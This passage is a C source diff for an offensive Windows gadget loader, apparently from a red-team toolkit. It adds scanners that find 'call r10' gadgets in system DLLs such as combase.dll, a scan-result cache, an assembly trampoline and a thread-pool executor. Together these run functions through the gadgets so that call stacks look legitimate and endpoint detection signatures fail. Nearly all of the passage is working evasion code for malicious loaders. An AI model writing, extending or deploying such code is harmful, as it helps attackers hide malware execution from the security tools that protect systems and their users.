@@ -8,7 +8,7 @@
  * in a benign DLL that contains "call r10; ret". This puts the gadget's
  * module address on the call stack, breaking detection signatures.
  *
- * Compile:
+ * Compile (SSE2 scanner by default on x64, add -mavx2 for the AVX2 one):
  *   x86_64-w64-mingw32-gcc -c gadget_loader.c -o gadget_loader.x64.o
  *
  * With Crystal Palace:
@@ -18,6 +18,13 @@
  */
 
 #include <windows.h>
+#include "../../../position-independent-code/POC/pe_view.h"
+
+#if defined(__AVX2__)
+#include <immintrin.h>
+#elif defined(__SSE2__)
+#include <emmintrin.h>
+#endif
 
 // ============================================================================
 // GADGET STRUCTURE
@@ -31,94 +38,587 @@ typedef struct {
 } GADGET_INFO;
 
 // ============================================================================
-// GADGET FINDER
+// GADGET PATTERNS
 // ============================================================================
 
-// Find "call r10; xor eax,eax; add rsp,0x28; ret" pattern
-GADGET_INFO find_call_r10_gadget(HMODULE hModule) {
-    GADGET_INFO gadget = {0};
+// The documented call r10 gadgets (see NOTES below)
+typedef struct {
+    BYTE bytes[16];
+    size_t length;
+    DWORD stack_cleanup;
+} GADGET_PATTERN;
 
-    // Pattern: call r10; xor eax,eax; add rsp,0x28; ret
-    BYTE pattern[] = {
-        0x41, 0xFF, 0xD2,       // call r10
-        0x33, 0xC0,              // xor eax, eax
-        0x48, 0x83, 0xC4, 0x28,  // add rsp, 0x28
-        0xC3                     // ret
-    };
+#define GADGET_PATTERN_CALL_R10_RET         0   // Pattern 1
+#define GADGET_PATTERN_CALL_R10_ADD20_RET   1   // Pattern 2
+#define GADGET_PATTERN_CALL_R10_XOR_ADD28   2   // Pattern 3
+#define GADGET_PATTERN_COUNT                3
 
-    if (!hModule) return gadget;
+static const GADGET_PATTERN g_gadget_patterns[GADGET_PATTERN_COUNT] = {
+    // call r10; ret
+    { { 0x41, 0xFF, 0xD2, 0xC3 }, 4, 0 },
+    // call r10; add rsp,0x20; ret
+    { { 0x41, 0xFF, 0xD2, 0x48, 0x83, 0xC4, 0x20, 0xC3 }, 8, 0x20 },
+    // call r10; xor eax,eax; add rsp,0x28; ret
+    { { 0x41, 0xFF, 0xD2, 0x33, 0xC0, 0x48, 0x83, 0xC4, 0x28, 0xC3 }, 10, 0x28 },
+};
 
-    // Get module info
-    PIMAGE_DOS_HEADER dos_header = (PIMAGE_DOS_HEADER)hModule;
-    PIMAGE_NT_HEADERS nt_headers = (PIMAGE_NT_HEADERS)(
-        (BYTE*)hModule + dos_header->e_lfanew
-    );
+// ============================================================================
+// MULTI-PATTERN SCANNER
+// ============================================================================
 
-    // Get .text section
-    PIMAGE_SECTION_HEADER section = IMAGE_FIRST_SECTION(nt_headers);
-    PIMAGE_SECTION_HEADER text_section = NULL;
+// Finds every occurrence of a set of patterns in one pass. Candidates are
+// filtered a vector at a time on each pattern's first and last byte, and
+// only positions that pass both compares are verified byte by byte. Uses
+// AVX2 or SSE2 when the compiler targets them, else a scalar loop.
 
-    for (int i = 0; i < nt_headers->FileHeader.NumberOfSections; i++) {
-        if (memcmp(section[i].Name, ".text", 5) == 0) {
-            text_section = &section[i];
-            break;
+typedef struct {
+    BYTE* address;
+    DWORD pattern_index;
+} GADGET_MATCH;
+
+#if defined(__AVX2__)
+#define SCAN_VECTOR 32
+typedef __m256i SCAN_VEC;
+#define scan_load(p)        _mm256_loadu_si256((const __m256i*)(p))
+#define scan_splat(b)       _mm256_set1_epi8((char)(b))
+#define scan_eq(a, b)       ((DWORD)_mm256_movemask_epi8(_mm256_cmpeq_epi8((a), (b))))
+#elif defined(__SSE2__)
+#define SCAN_VECTOR 16
+typedef __m128i SCAN_VEC;
+#define scan_load(p)        _mm_loadu_si128((const __m128i*)(p))
+#define scan_splat(b)       _mm_set1_epi8((char)(b))
+#define scan_eq(a, b)       ((DWORD)_mm_movemask_epi8(_mm_cmpeq_epi8((a), (b))))
+#endif
+
+static BOOL gadget_bytes_equal(const BYTE* a, const BYTE* b, size_t length) {
+    for (size_t i = 0; i < length; i++) {
+        if (a[i] != b[i]) return FALSE;
+    }
+    return TRUE;
+}
+
+// Returns the number of matches stored, in address order (ties in pattern
+// order). Scanning stops once max_matches have been found.
+DWORD scan_gadget_patterns(BYTE* start, SIZE_T size,
+                           const GADGET_PATTERN* patterns, DWORD pattern_count,
+                           GADGET_MATCH* matches, DWORD max_matches) {
+    DWORD found = 0;
+    SIZE_T max_length = 0;
+    SIZE_T i = 0;
+
+    if (!start || !pattern_count || !max_matches) return 0;
+
+    for (DWORD p = 0; p < pattern_count; p++) {
+        if (!patterns[p].length) return 0;
+        if (patterns[p].length > max_length) max_length = patterns[p].length;
+    }
+
+#ifdef SCAN_VECTOR
+    SCAN_VEC first[GADGET_PATTERN_COUNT];
+    SCAN_VEC last[GADGET_PATTERN_COUNT];
+    DWORD vector_patterns = pattern_count <= GADGET_PATTERN_COUNT ? pattern_count : 0;
+
+    for (DWORD p = 0; p < vector_patterns; p++) {
+        first[p] = scan_splat(patterns[p].bytes[0]);
+        last[p] = scan_splat(patterns[p].bytes[patterns[p].length - 1]);
+    }
+
+    // Both loads of every pattern stay inside the buffer
+    while (vector_patterns && size >= max_length + SCAN_VECTOR - 1 &&
+           i <= size - (max_length + SCAN_VECTOR - 1)) {
+        SCAN_VEC block = scan_load(start + i);
+        DWORD candidates[GADGET_PATTERN_COUNT];
+        DWORD any = 0;
+
+        for (DWORD p = 0; p < vector_patterns; p++) {
+            candidates[p] = scan_eq(block, first[p]) &
+                scan_eq(scan_load(start + i + patterns[p].length - 1), last[p]);
+            any |= candidates[p];
+        }
+
+        while (any) {
+            DWORD bit = (DWORD)__builtin_ctz(any);
+            any &= any - 1;
+
+            for (DWORD p = 0; p < vector_patterns; p++) {
+                if ((candidates[p] >> bit) & 1 &&
+                    gadget_bytes_equal(start + i + bit, patterns[p].bytes,
+                                       patterns[p].length)) {
+                    matches[found].address = start + i + bit;
+                    matches[found].pattern_index = p;
+                    if (++found == max_matches) return found;
+                }
+            }
+        }
+
+        i += SCAN_VECTOR;
+    }
+#endif
+
+    // Scalar tail (or whole range without SIMD). Bounds are checked as
+    // length <= size - i so sections shorter than a pattern can't wrap
+    // around the way the old size - sizeof(pattern) loop did.
+    for (; i < size; i++) {
+        for (DWORD p = 0; p < pattern_count; p++) {
+            if (patterns[p].length && patterns[p].length <= size - i &&
+                gadget_bytes_equal(start + i, patterns[p].bytes, patterns[p].length)) {
+                matches[found].address = start + i;
+                matches[found].pattern_index = p;
+                if (++found == max_matches) return found;
+            }
         }
     }
 
-    if (!text_section) return gadget;
+    return found;
+}
 
-    // Scan .text section
-    BYTE* start = (BYTE*)hModule + text_section->VirtualAddress;
-    SIZE_T size = text_section->Misc.VirtualSize;
+// ============================================================================
+// SECTION CURSOR
+// ============================================================================
 
-    for (SIZE_T i = 0; i < size - sizeof(pattern); i++) {
-        if (memcmp(start + i, pattern, sizeof(pattern)) == 0) {
-            gadget.address = start + i;
-            gadget.pattern_length = sizeof(pattern);
-            gadget.stack_cleanup = 0x28;
-            memcpy(gadget.pattern, pattern, sizeof(pattern));
-            return gadget;
+// Resumable scan over every IMAGE_SCN_MEM_EXECUTE section, in section
+// table order. Each section is scanned in SCAN_CHUNK_SIZE windows that
+// extend (longest pattern - 1) bytes into the next chunk, so a gadget
+// straddling a boundary is found once, by the chunk it starts in.
+// gadget_cursor_next hands out one match at a time and picks up where the
+// last one left off, so rejecting a candidate never rescans from the
+// start of the module.
+
+#define SCAN_CHUNK_SIZE     (32 * 1024)     // Fits L1/L2 with room to spare
+#define CURSOR_BATCH        16
+
+// Polled before every chunk; TRUE stops the cursor
+typedef BOOL (*GADGET_CURSOR_ABORT)(void* context);
+
+typedef struct {
+    PE_VIEW view;
+    const GADGET_PATTERN* patterns;
+    DWORD pattern_count;
+    SIZE_T max_length;
+
+    WORD section;               // Section being scanned
+    SIZE_T offset;              // Next scan position within it
+    GADGET_MATCH pending[CURSOR_BATCH];
+    DWORD pending_count;
+    DWORD pending_next;
+
+    GADGET_CURSOR_ABORT abort;  // Optional
+    void* abort_context;
+    BOOL aborted;
+} GADGET_CURSOR;
+
+BOOL gadget_cursor_from_view(GADGET_CURSOR* cursor, const PE_VIEW* view,
+                             const GADGET_PATTERN* patterns, DWORD pattern_count) {
+    memset(cursor, 0, sizeof(*cursor));
+    if (!view->base || !patterns || !pattern_count) return FALSE;
+
+    for (DWORD p = 0; p < pattern_count; p++) {
+        if (!patterns[p].length) return FALSE;
+        if (patterns[p].length > cursor->max_length) cursor->max_length = patterns[p].length;
+    }
+
+    cursor->view = *view;
+    cursor->patterns = patterns;
+    cursor->pattern_count = pattern_count;
+    return TRUE;
+}
+
+BOOL gadget_cursor_init(GADGET_CURSOR* cursor, HMODULE hModule,
+                        const GADGET_PATTERN* patterns, DWORD pattern_count) {
+    PE_VIEW view;
+    if (!pe_view_init(&view, hModule)) {
+        memset(cursor, 0, sizeof(*cursor));
+        return FALSE;
+    }
+    return gadget_cursor_from_view(cursor, &view, patterns, pattern_count);
+}
+
+// Mapped bytes of an executable section, 0 if not executable or out of bounds
+static SIZE_T cursor_section_size(const PE_VIEW* view, WORD index) {
+    PIMAGE_SECTION_HEADER section = &view->sections[index];
+    SIZE_T size = section->Misc.VirtualSize ? section->Misc.VirtualSize : section->SizeOfRawData;
+
+    if (!(section->Characteristics & IMAGE_SCN_MEM_EXECUTE)) return 0;
+    if (!pe_view_contains(view, section->VirtualAddress, size)) return 0;
+    return size;
+}
+
+// Scan windows until one yields matches (TRUE) or the image is done
+static BOOL gadget_cursor_fill(GADGET_CURSOR* cursor) {
+    const PE_VIEW* view = &cursor->view;
+
+    while (cursor->section < view->section_count) {
+        SIZE_T size = cursor_section_size(view, cursor->section);
+
+        if (cursor->offset >= size) {
+            cursor->section++;
+            cursor->offset = 0;
+            continue;
         }
+
+        if (cursor->abort && cursor->abort(cursor->abort_context)) {
+            cursor->aborted = TRUE;
+            return FALSE;
+        }
+
+        BYTE* start = view->base + view->sections[cursor->section].VirtualAddress;
+        SIZE_T chunk_end = size - cursor->offset > SCAN_CHUNK_SIZE
+            ? cursor->offset + SCAN_CHUNK_SIZE : size;
+        SIZE_T window_end = size - chunk_end > cursor->max_length - 1
+            ? chunk_end + cursor->max_length - 1 : size;
+
+        DWORD found = scan_gadget_patterns(start + cursor->offset, window_end - cursor->offset,
+                                           cursor->patterns, cursor->pattern_count,
+                                           cursor->pending, CURSOR_BATCH);
+
+        // Matches starting in the overlap belong to the next chunk
+        DWORD kept = 0;
+        while (kept < found && cursor->pending[kept].address < start + chunk_end) {
+            kept++;
+        }
+
+        cursor->offset = chunk_end;
+
+        // Batch full inside this chunk: there may be more. Resume at the
+        // last address so none of its pattern matches are split off.
+        if (kept == CURSOR_BATCH) {
+            BYTE* last = cursor->pending[kept - 1].address;
+            DWORD whole = kept;
+            while (whole && cursor->pending[whole - 1].address == last) whole--;
+
+            if (whole) {
+                kept = whole;
+                cursor->offset = (SIZE_T)(last - start);
+            } else {
+                cursor->offset = (SIZE_T)(last - start) + 1;
+            }
+        }
+
+        cursor->pending_count = kept;
+        cursor->pending_next = 0;
+        if (kept) return TRUE;
+    }
+
+    return FALSE;
+}
+
+// Next match in address order within each section; FALSE when exhausted
+// (or aborted, see cursor->aborted)
+BOOL gadget_cursor_next(GADGET_CURSOR* cursor, GADGET_MATCH* match) {
+    if (!cursor->patterns) return FALSE;
+
+    while (cursor->pending_next == cursor->pending_count) {
+        if (!gadget_cursor_fill(cursor)) return FALSE;
+    }
+
+    *match = cursor->pending[cursor->pending_next++];
+    return TRUE;
+}
+
+// Up to max_matches matches across all executable sections
+static DWORD scan_executable_sections(const PE_VIEW* view, const GADGET_PATTERN* patterns,
+                                      DWORD pattern_count, GADGET_MATCH* matches,
+                                      DWORD max_matches) {
+    GADGET_CURSOR cursor;
+    DWORD found = 0;
+
+    if (!gadget_cursor_from_view(&cursor, view, patterns, pattern_count)) return 0;
+
+    while (found < max_matches && gadget_cursor_next(&cursor, &matches[found])) {
+        found++;
+    }
+
+    return found;
+}
+
+// ============================================================================
+// GADGET FINDER
+// ============================================================================
+
+// Headers are parsed and bounds-checked once per call through PE_VIEW
+// (pe_view.h); this PIC has no .bss to keep views across calls. Every
+// finder scans all executable sections through the cursor above.
+
+// Every documented call r10 gadget, in a single pass
+DWORD find_call_r10_gadgets(HMODULE hModule, GADGET_MATCH* matches, DWORD max_matches) {
+    PE_VIEW view;
+
+    if (!pe_view_init(&view, hModule)) return 0;
+
+    return scan_executable_sections(&view, g_gadget_patterns, GADGET_PATTERN_COUNT,
+                                    matches, max_matches);
+}
+
+// Find "call r10; xor eax,eax; add rsp,0x28; ret" pattern
+GADGET_INFO find_call_r10_gadget(HMODULE hModule) {
+    GADGET_INFO gadget = {0};
+    const GADGET_PATTERN* pattern = &g_gadget_patterns[GADGET_PATTERN_CALL_R10_XOR_ADD28];
+    GADGET_MATCH match;
+    PE_VIEW view;
+
+    if (!pe_view_init(&view, hModule)) return gadget;
+
+    if (scan_executable_sections(&view, pattern, 1, &match, 1)) {
+        gadget.address = match.address;
+        gadget.pattern_length = pattern->length;
+        gadget.stack_cleanup = pattern->stack_cleanup;
+        memcpy(gadget.pattern, pattern->bytes, pattern->length);
     }
 
     return gadget;
 }
 
-// Generic gadget finder by pattern
+// Generic gadget finder by pattern. To look past a rejected hit, run a
+// GADGET_CURSOR over the pattern instead of calling this again.
 GADGET_INFO find_gadget_by_pattern(HMODULE hModule, BYTE* pattern, size_t pattern_len) {
     GADGET_INFO gadget = {0};
+    GADGET_PATTERN custom = {0};
+    GADGET_MATCH match;
+    PE_VIEW view;
 
     if (!hModule || !pattern) return gadget;
+    if (!pattern_len || pattern_len > sizeof(custom.bytes)) return gadget;
 
-    PIMAGE_DOS_HEADER dos_header = (PIMAGE_DOS_HEADER)hModule;
-    PIMAGE_NT_HEADERS nt_headers = (PIMAGE_NT_HEADERS)(
-        (BYTE*)hModule + dos_header->e_lfanew
-    );
+    memcpy(custom.bytes, pattern, pattern_len);
+    custom.length = pattern_len;
 
-    PIMAGE_SECTION_HEADER section = IMAGE_FIRST_SECTION(nt_headers);
-    PIMAGE_SECTION_HEADER text_section = NULL;
+    if (!pe_view_init(&view, hModule)) return gadget;
 
-    for (int i = 0; i < nt_headers->FileHeader.NumberOfSections; i++) {
-        if (memcmp(section[i].Name, ".text", 5) == 0) {
-            text_section = &section[i];
-            break;
+    if (scan_executable_sections(&view, &custom, 1, &match, 1)) {
+        gadget.address = match.address;
+        gadget.pattern_length = pattern_len;
+        memcpy(gadget.pattern, pattern, pattern_len);
+    }
+
+    return gadget;
+}
+
+// ============================================================================
+// SCAN RESULT CACHE
+// ============================================================================
+
+// Gadget RVAs only change when the DLL build changes, so scan results are
+// kept per module identity (TimeDateStamp, SizeOfImage and a checksum of
+// the header CheckSum plus section table). A module whose identity is
+// cached is not scanned at all. The cache is a flat struct: persist it
+// with gadget_cache_save_file() or embed its bytes anywhere and hand them
+// to gadget_cache_load(). Every cached hit is re-checked against the
+// pattern bytes before use, so a stale entry fails safe into a rescan.
+
+#define GADGET_CACHE_MAGIC      0x48435347  // "GSCH"
+#define GADGET_CACHE_VERSION    1
+#define MAX_CACHED_SCANS        32
+
+typedef struct {
+    DWORD time_date_stamp;
+    DWORD size_of_image;
+    DWORD checksum;
+} MODULE_IDENTITY;
+
+typedef struct {
+    MODULE_IDENTITY identity;
+    DWORD rvas[GADGET_PATTERN_COUNT];   // First match of each pattern, 0 = none
+} SCAN_CACHE_ENTRY;
+
+typedef struct {
+    DWORD magic;
+    DWORD version;
+    DWORD count;
+    DWORD dirty;                        // Changed since load (save it)
+    SCAN_CACHE_ENTRY entries[MAX_CACHED_SCANS];
+} GADGET_SCAN_CACHE;
+
+MODULE_IDENTITY get_module_identity(const PE_VIEW* view) {
+    MODULE_IDENTITY identity = {0};
+
+    identity.time_date_stamp = view->nt->FileHeader.TimeDateStamp;
+    identity.size_of_image = view->image_size;
+
+    // FNV-1a over the section table, seeded with the header CheckSum
+    DWORD hash = 0x811C9DC5 ^ view->nt->OptionalHeader.CheckSum;
+    BYTE* table = (BYTE*)view->sections;
+    SIZE_T table_size = view->section_count * sizeof(IMAGE_SECTION_HEADER);
+
+    for (SIZE_T i = 0; i < table_size; i++) {
+        hash = (hash ^ table[i]) * 0x01000193;
+    }
+
+    identity.checksum = hash;
+    return identity;
+}
+
+void gadget_cache_init(GADGET_SCAN_CACHE* cache) {
+    memset(cache, 0, sizeof(*cache));
+    cache->magic = GADGET_CACHE_MAGIC;
+    cache->version = GADGET_CACHE_VERSION;
+}
+
+// Adopt previously saved bytes; anything malformed starts an empty cache
+BOOL gadget_cache_load(GADGET_SCAN_CACHE* cache, const void* data, SIZE_T size) {
+    const GADGET_SCAN_CACHE* saved = (const GADGET_SCAN_CACHE*)data;
+
+    if (!data || size != sizeof(GADGET_SCAN_CACHE) ||
+        saved->magic != GADGET_CACHE_MAGIC ||
+        saved->version != GADGET_CACHE_VERSION ||
+        saved->count > MAX_CACHED_SCANS) {
+        gadget_cache_init(cache);
+        return FALSE;
+    }
+
+    memcpy(cache, saved, sizeof(*cache));
+    cache->dirty = FALSE;
+    return TRUE;
+}
+
+BOOL gadget_cache_load_file(GADGET_SCAN_CACHE* cache, const char* path) {
+    GADGET_SCAN_CACHE saved;
+    DWORD read = 0;
+
+    HANDLE file = CreateFileA(path, GENERIC_READ, FILE_SHARE_READ, NULL,
+                              OPEN_EXISTING, FILE_ATTRIBUTE_NORMAL, NULL);
+    if (file == INVALID_HANDLE_VALUE) {
+        gadget_cache_init(cache);
+        return FALSE;
+    }
+
+    BOOL ok = ReadFile(file, &saved, sizeof(saved), &read, NULL);
+    CloseHandle(file);
+
+    return gadget_cache_load(cache, &saved, ok ? read : 0);
+}
+
+BOOL gadget_cache_save_file(GADGET_SCAN_CACHE* cache, const char* path) {
+    DWORD written = 0;
+
+    HANDLE file = CreateFileA(path, GENERIC_WRITE, 0, NULL,
+                              CREATE_ALWAYS, FILE_ATTRIBUTE_NORMAL, NULL);
+    if (file == INVALID_HANDLE_VALUE) return FALSE;
+
+    cache->dirty = FALSE;
+    BOOL ok = WriteFile(file, cache, sizeof(*cache), &written, NULL);
+    CloseHandle(file);
+
+    return ok && written == sizeof(*cache);
+}
+
+static SCAN_CACHE_ENTRY* gadget_cache_find(GADGET_SCAN_CACHE* cache, MODULE_IDENTITY* identity) {
+    for (DWORD i = 0; i < cache->count; i++) {
+        MODULE_IDENTITY* cached = &cache->entries[i].identity;
+        if (cached->time_date_stamp == identity->time_date_stamp &&
+            cached->size_of_image == identity->size_of_image &&
+            cached->checksum == identity->checksum) {
+            return &cache->entries[i];
         }
     }
+    return NULL;
+}
 
-    if (!text_section) return gadget;
+// First match of every pattern in a module (0 = none), in one pass over
+// the executable sections. Touches no cache, so it can run on several
+// threads at once. FALSE if abort stopped it (rvas incomplete).
+static BOOL gadget_scan_rvas_ex(const PE_VIEW* view, DWORD rvas[GADGET_PATTERN_COUNT],
+                                GADGET_CURSOR_ABORT abort, void* abort_context) {
+    GADGET_CURSOR cursor;
+    GADGET_MATCH match;
+    DWORD missing = GADGET_PATTERN_COUNT;
 
-    BYTE* start = (BYTE*)hModule + text_section->VirtualAddress;
-    SIZE_T size = text_section->Misc.VirtualSize;
+    for (DWORD p = 0; p < GADGET_PATTERN_COUNT; p++) {
+        rvas[p] = 0;
+    }
+
+    if (!gadget_cursor_from_view(&cursor, view, g_gadget_patterns, GADGET_PATTERN_COUNT)) {
+        return TRUE;
+    }
+
+    cursor.abort = abort;
+    cursor.abort_context = abort_context;
+
+    while (missing && gadget_cursor_next(&cursor, &match)) {
+        if (!rvas[match.pattern_index]) {
+            rvas[match.pattern_index] = (DWORD)(match.address - view->base);
+            missing--;
+        }
+    }
 
-    for (SIZE_T i = 0; i < size - pattern_len; i++) {
-        if (memcmp(start + i, pattern, pattern_len) == 0) {
-            gadget.address = start + i;
-            gadget.pattern_length = pattern_len;
-            memcpy(gadget.pattern, pattern, pattern_len);
+    return !cursor.aborted;
+}
+
+static void gadget_scan_rvas(const PE_VIEW* view, DWORD rvas[GADGET_PATTERN_COUNT]) {
+    gadget_scan_rvas_ex(view, rvas, NULL, NULL);
+}
+
+// Record scan results for a module identity
+static SCAN_CACHE_ENTRY* gadget_cache_store(GADGET_SCAN_CACHE* cache, MODULE_IDENTITY* identity,
+                                            const DWORD rvas[GADGET_PATTERN_COUNT]) {
+    SCAN_CACHE_ENTRY* entry = gadget_cache_find(cache, identity);
+
+    if (!entry) {
+        // Full: recycle a slot chosen by identity
+        DWORD slot = cache->count < MAX_CACHED_SCANS
+            ? cache->count++
+            : identity->checksum % MAX_CACHED_SCANS;
+        entry = &cache->entries[slot];
+        entry->identity = *identity;
+    }
+
+    for (DWORD p = 0; p < GADGET_PATTERN_COUNT; p++) {
+        entry->rvas[p] = rvas[p];
+    }
+
+    cache->dirty = TRUE;
+    return entry;
+}
+
+// Scan a module once for the first match of every pattern and record it
+static SCAN_CACHE_ENTRY* gadget_cache_fill(GADGET_SCAN_CACHE* cache, const PE_VIEW* view,
+                                           MODULE_IDENTITY* identity) {
+    DWORD rvas[GADGET_PATTERN_COUNT];
+    gadget_scan_rvas(view, rvas);
+    return gadget_cache_store(cache, identity, rvas);
+}
+
+static BOOL gadget_from_rva(const PE_VIEW* view, DWORD rva,
+                            DWORD pattern_index, GADGET_INFO* gadget) {
+    const GADGET_PATTERN* pattern = &g_gadget_patterns[pattern_index];
+
+    if (!rva || !pe_view_contains(view, rva, pattern->length)) return FALSE;
+
+    gadget->address = view->base + rva;
+    gadget->pattern_length = pattern->length;
+    gadget->stack_cleanup = pattern->stack_cleanup;
+    memcpy(gadget->pattern, pattern->bytes, pattern->length);
+
+    // Fail safe: the bytes at the cached address must still be the gadget
+    if (!gadget_bytes_equal((BYTE*)gadget->address, gadget->pattern, gadget->pattern_length)) {
+        memset(gadget, 0, sizeof(*gadget));
+        return FALSE;
+    }
+
+    return TRUE;
+}
+
+// find_call_r10_gadget, served from the cache when the module is known
+GADGET_INFO find_call_r10_gadget_cached(GADGET_SCAN_CACHE* cache, HMODULE hModule) {
+    GADGET_INFO gadget = {0};
+    DWORD pattern_index = GADGET_PATTERN_CALL_R10_XOR_ADD28;
+
+    PE_VIEW view;
+    if (!pe_view_init(&view, hModule)) return gadget;
+
+    MODULE_IDENTITY identity = get_module_identity(&view);
+    SCAN_CACHE_ENTRY* entry = gadget_cache_find(cache, &identity);
+
+    if (entry) {
+        if (!entry->rvas[pattern_index]) return gadget;   // Known miss
+        if (gadget_from_rva(&view, entry->rvas[pattern_index], pattern_index, &gadget)) {
             return gadget;
         }
     }
 
+    // Unknown module or stale entry: scan and record
+    entry = gadget_cache_fill(cache, &view, &identity);
+    gadget_from_rva(&view, entry->rvas[pattern_index], pattern_index, &gadget);
+
     return gadget;
 }
 
@@ -126,28 +626,113 @@ GADGET_INFO find_gadget_by_pattern(HMODULE hModule, BYTE* pattern, size_t patter
 // GADGET EXECUTOR
 // ============================================================================
 
-// Execute function via gadget (assembly stub)
-// This would be implemented in assembly for production use
-typedef void* (*GADGET_EXECUTOR)(void* gadget, void* function, void* arg1);
+// Calls are made by jumping (not calling) into the gadget with rsp = R:
+//
+//   R + 0x00   shadow space for the target
+//   R + 0x20   stack arguments 5, 6, ...
+//   R + N      return slot, popped by the gadget's "add rsp,N; ret"
+//
+// The gadget's "call r10" pushes its own return address below R, so the
+// target sees a normal frame: 16-byte aligned, shadow space, stack
+// arguments. The target may write its shadow space, so the return slot
+// must be at or above R + 0x20; "call r10; ret" (N = 0) is unusable, and a
+// gadget carries 4 + (N - 0x20) / 8 arguments (5 for Pattern 3).
 
-// Inline assembly version (for demonstration)
-void* execute_via_call_r10_gadget(GADGET_INFO* gadget, void* function, void* arg1) {
-    if (!gadget->address) return NULL;
+#define GADGET_MAX_ARGS 8
+#define GADGET_SHADOW_SPACE 0x20
 
-    void* result;
+// Field offsets are used by gadget_trampoline below
+typedef struct {
+    void* gadget;               // +0
+    void* function;             // +8
+    DWORD64 stack_cleanup;      // +16
+    DWORD64 stack_arg_count;    // +24
+    DWORD64 args[GADGET_MAX_ARGS]; // +32
+} GADGET_FRAME;
 
-    // This is pseudocode - actual implementation would be pure assembly
-    __asm__ volatile (
-        "sub rsp, %1\n"         // Allocate stack space
-        "mov r10, %2\n"         // Place function in r10
-        "mov rcx, %3\n"         // First argument
-        "call %4\n"             // Call gadget (which calls r10)
-        "mov %0, rax\n"         // Save result
-        : "=r"(result)
-        : "i"(gadget->stack_cleanup), "r"(function), "r"(arg1), "r"(gadget->address)
-        : "rax", "rcx", "r10", "memory"
-    );
+void* gadget_trampoline(GADGET_FRAME* frame);
+
+// Win64 ABI stub (AT&T syntax, the compiler default). rbp/rbx/rsi/rdi are
+// saved; everything after the jump is the gadget's and the target's. No
+// unwind data: exceptions must not cross it.
+__asm__(
+    ".text\n"
+    ".p2align 4\n"
+    ".globl gadget_trampoline\n"
+    "gadget_trampoline:\n"
+    "    push %rbp\n"
+    "    mov  %rsp, %rbp\n"
+    "    push %rbx\n"
+    "    push %rsi\n"
+    "    push %rdi\n"
+    "    mov  %rcx, %rbx\n"             // frame
+    "    mov  16(%rbx), %r11\n"         // N
+    "    sub  %r11, %rsp\n"
+    "    sub  $8, %rsp\n"
+    "    and  $-16, %rsp\n"             // R
+    "    lea  64(%rbx), %rsi\n"         // &args[4]
+    "    lea  32(%rsp), %rdi\n"         // R + 0x20
+    "    mov  24(%rbx), %rcx\n"
+    "    cld\n"
+    "    rep movsq\n"
+    "    lea  1f(%rip), %rax\n"
+    "    mov  %rax, (%rsp,%r11)\n"      // Return slot at R + N
+    "    mov  8(%rbx), %r10\n"
+    "    mov  32(%rbx), %rcx\n"
+    "    mov  40(%rbx), %rdx\n"
+    "    mov  48(%rbx), %r8\n"
+    "    mov  56(%rbx), %r9\n"
+    "    jmp  *(%rbx)\n"
+    "1:\n"
+    "    lea  -24(%rbp), %rsp\n"
+    "    pop  %rdi\n"
+    "    pop  %rsi\n"
+    "    pop  %rbx\n"
+    "    pop  %rbp\n"
+    "    ret\n"
+);
+
+// Arguments a gadget can forward (0 = unusable)
+DWORD gadget_max_args(const GADGET_INFO* gadget) {
+    if (!gadget->address || gadget->stack_cleanup < GADGET_SHADOW_SPACE) return 0;
+
+    DWORD count = 4 + (gadget->stack_cleanup - GADGET_SHADOW_SPACE) / 8;
+    return count < GADGET_MAX_ARGS ? count : GADGET_MAX_ARGS;
+}
+
+// Pattern 3 runs "xor eax,eax" after the call, so the return value is lost
+BOOL gadget_preserves_result(const GADGET_INFO* gadget) {
+    return !(gadget->pattern_length > 4 &&
+             gadget->pattern[3] == 0x33 && gadget->pattern[4] == 0xC0);
+}
+
+// Synchronous call through the gadget on the caller's thread. Fails,
+// without calling anything, if the gadget is unusable (no address, or no
+// room for the shadow space) or cannot carry arg_count arguments.
+BOOL gadget_call(const GADGET_INFO* gadget, void* function,
+                 void* const* args, DWORD arg_count, void** result) {
+    DWORD max_args = gadget_max_args(gadget);
+    if (max_args == 0 || arg_count > max_args) return FALSE;
+
+    GADGET_FRAME frame = {0};
+    frame.gadget = gadget->address;
+    frame.function = function;
+    frame.stack_cleanup = gadget->stack_cleanup;
+    frame.stack_arg_count = arg_count > 4 ? arg_count - 4 : 0;
 
+    for (DWORD i = 0; i < arg_count; i++) {
+        frame.args[i] = (DWORD64)args[i];
+    }
+
+    void* value = gadget_trampoline(&frame);
+    if (result) *result = value;
+    return TRUE;
+}
+
+// Single-argument form (NULL when gadget_call refuses the gadget)
+void* execute_via_call_r10_gadget(GADGET_INFO* gadget, void* function, void* arg1) {
+    void* result = NULL;
+    gadget_call(gadget, function, &arg1, 1, &result);
     return result;
 }
 
@@ -202,48 +787,351 @@ void* execute_via_threadpool_and_gadget(
 }
 
 // ============================================================================
-// HIGH-LEVEL API
+// REUSABLE EXECUTOR
 // ============================================================================
 
-// Load library via gadget to evade call stack detection
-HMODULE evasive_load_library(const char* dll_name) {
-    // Try multiple modules for gadgets
-    const char* gadget_modules[] = {
-        "dsdmo.dll",
-        "combase.dll",
-        "propsys.dll",
-        "apphelp.dll",
-        NULL
-    };
+// Finds its gadget once and keeps one TP_WORK for its lifetime. Each
+// submission runs a whole batch of calls in a single callback, so a call
+// costs one array slot instead of a probe scan plus a pool object
+// create/submit/wait/close.
+//
+// One submitter at a time: executor_run waits for its batch to finish.
+
+typedef struct {
+    void* function;
+    void* args[GADGET_MAX_ARGS];
+    DWORD arg_count;
+    void* result;               // NULL if the gadget could not carry the call
+} GADGET_CALL;
+
+typedef struct {
+    GADGET_INFO gadget;         // address NULL = no gadget, calls run directly
+    PTP_WORK work;
+    GADGET_CALL* calls;         // Batch of the submission in flight
+    DWORD call_count;
+} GADGET_EXECUTOR_CONTEXT;
+
+// Modules probed for a call r10 gadget, in order
+static const char* g_gadget_modules[] = {
+    "dsdmo.dll",
+    "combase.dll",
+    "propsys.dll",
+    "apphelp.dll",
+    NULL
+};
+
+// How find_probe_gadget walks g_gadget_modules
+#define PROBE_SEQUENTIAL    0   // Load and scan one module at a time
+#define PROBE_PARALLEL      1   // Load and scan all of them on the thread pool
 
+// cache may be NULL (always scan)
+static GADGET_INFO find_probe_gadget_sequential(GADGET_SCAN_CACHE* cache) {
     GADGET_INFO gadget = {0};
 
-    // Find a suitable gadget
-    for (int i = 0; gadget_modules[i] != NULL; i++) {
-        HMODULE hMod = LoadLibraryA(gadget_modules[i]);
+    for (int i = 0; g_gadget_modules[i] != NULL; i++) {
+        HMODULE hMod = LoadLibraryA(g_gadget_modules[i]);
         if (!hMod) continue;
 
-        gadget = find_call_r10_gadget(hMod);
+        gadget = cache
